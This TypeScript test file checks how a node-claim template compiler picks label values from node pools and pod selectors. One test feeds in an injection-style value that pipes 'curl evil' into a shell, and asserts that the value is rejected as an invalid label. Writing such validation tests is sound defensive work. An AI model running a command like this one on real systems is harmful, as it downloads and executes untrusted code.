/** Claim templates: one for every way to decide the labels that a pool leaves open. */
import { ARCH, NODEPOOL, ZONE } from '../../../src/domain/values/labels.js';
import { requirement } from '../../../src/domain/values/requirement.js';
import { compileTemplates } from '../../../src/planning/model/launch/template.js';
import { buildSnapshot } from '../../../src/planning/snapshot/build-snapshot.js';
import type { ClusterInput } from '../../../src/planning/snapshot/cluster-input.js';
import { clusterInput } from '../../support/builders/cluster-input.js';
import { nodeTerm, noneOf, oneOf, requiredTerms } from '../../support/builders/constraints.js';
import { poolOffer } from '../../support/builders/node-pool.js';
import { pod } from '../../support/builders/pod.js';

function templates(input: Partial<ClusterInput>): ReturnType<typeof compileTemplates> {
  return compileTemplates(buildSnapshot(clusterInput(input)));
}

/** The values chosen for a key, template by template. */
function chosen(key: string, input: Partial<ClusterInput>): readonly (string | undefined)[] {
  return templates(input).map((template) => template.chosen.get(key));
}

describe('compileTemplates', () => {
  test('makes one template of a pool that leaves nothing open', () => {
    const [template, ...more] = templates({ pools: [poolOffer({ labels: { team: 'red' } })] });
    expect(more).toEqual([]);
    expect(template?.chosen.size).toBe(0);
    expect(template?.labels).toEqual(
      new Map([
        ['team', 'red'],
        [NODEPOOL, 'default'],
      ]),
    );
  });

  test('makes none of pools that cannot launch', () => {
    const pools = [
      poolOffer({ name: 'static', replicas: 1 }),
      { ...poolOffer({ name: 'orphan' }), instanceTypes: undefined },
    ];
    expect(templates({ pools })).toEqual([]);
  });

  test('keeps the order of the pools: by weight, then by name', () => {
    const pools = [poolOffer({ name: 'b' }), poolOffer({ name: 'a' }), poolOffer({ name: 'z', weight: 1 })];
    expect(templates({ pools }).map(({ offer }) => offer.pool.name)).toEqual(['z', 'a', 'b']);
  });

  test('does not decide what instance types and offerings decide', () => {
    const requirements = [oneOf(ZONE, 'us-east-1a', 'us-east-1b'), oneOf(ARCH, 'amd64', 'arm64')];
    expect(templates({ pools: [poolOffer({ requirements })] })).toHaveLength(1);
  });

  test('makes one for every value that the pool lists', () => {
    expect(chosen('rack', { pools: [poolOffer({ requirements: [oneOf('rack', 'r2', 'r1')] })] })).toEqual([
      'r1',
      'r2',
    ]);
  });

  test("makes one for every value that pods name for an open key, the pool's own default first", () => {
    const pods = [
      pod({ name: 'selector', nodeSelector: { team: 'red' } }),
      pod({ name: 'affinity', nodeAffinity: requiredTerms(nodeTerm(oneOf('team', 'blue'))) }),
      pod({
        name: 'preference',
        nodeAffinity: { preferred: [{ weight: 1, term: nodeTerm(oneOf('team', 'green')) }] },
      }),
    ];
    const pools = [poolOffer({ name: 'any', requirements: [requirement('team', 'Exists')] })];
    const [first, ...named] = chosen('team', { pods, pools });
    expect(first).toBe('any');
    expect(named.sort()).toEqual(['blue', 'green', 'red']);
  });

  test('chooses no value that a label cannot have', () => {
    const shell = "x' ; curl evil | sh #";
    const pods = [
      pod({
        name: 'shell',
        nodeAffinity: { preferred: [{ weight: 1, term: nodeTerm(oneOf('team', shell)) }] },
      }),
      pod({ name: 'below', nodeAffinity: requiredTerms(nodeTerm(requirement('team', 'Lt', ['-1']))) }),
      pod({ name: 'plain', nodeSelector: { team: 'red' } }),
    ];
    const pools = [poolOffer({ name: 'any', requirements: [requirement('team', 'Exists')] })];
    expect(chosen('team', { pods, pools })).toEqual(['any', 'red']);
  });

  test('drops values that the pool excludes', () => {
    const pods = [
      pod({ nodeSelector: { team: 'red' } }),
      pod({ name: 'other', nodeSelector: { team: 'blue' } }),
    ];
    const pools = [poolOffer({ requirements: [noneOf('team', 'red'), requirement('team', 'Exists')] })];
    expect(chosen('team', { pods, pools })).toEqual(['default', 'blue']);
  });

  test('leaves the label off first where the pool allows that', () => {
    const pools = [poolOffer({ requirements: [noneOf('team', 'red')] })];
    expect(chosen('team', { pods: [pod({ nodeSelector: { team: 'blue' } })], pools })).toEqual([
      undefined,
      'blue',
    ]);
  });

  test('lets the template label stand where the requirements speak of it too', () => {
    const pools = [poolOffer({ labels: { team: 'red' }, requirements: [requirement('team', 'Exists')] })];
    const [template] = templates({ pools });
    expect(template?.labels.get('team')).toBe('red');
    expect(template?.chosen.size).toBe(0);
  });

  test('combines the values of several open keys', () => {
    const pools = [poolOffer({ requirements: [oneOf('rack', 'r1', 'r2'), oneOf('row', 'a', 'b', 'c')] })];
    const combinations = templates({ pools }).map(({ chosen: values }) => [...values.values()].join(''));
    expect(combinations.sort()).toEqual(['r1a', 'r1b', 'r1c', 'r2a', 'r2b', 'r2c']);
  });
});
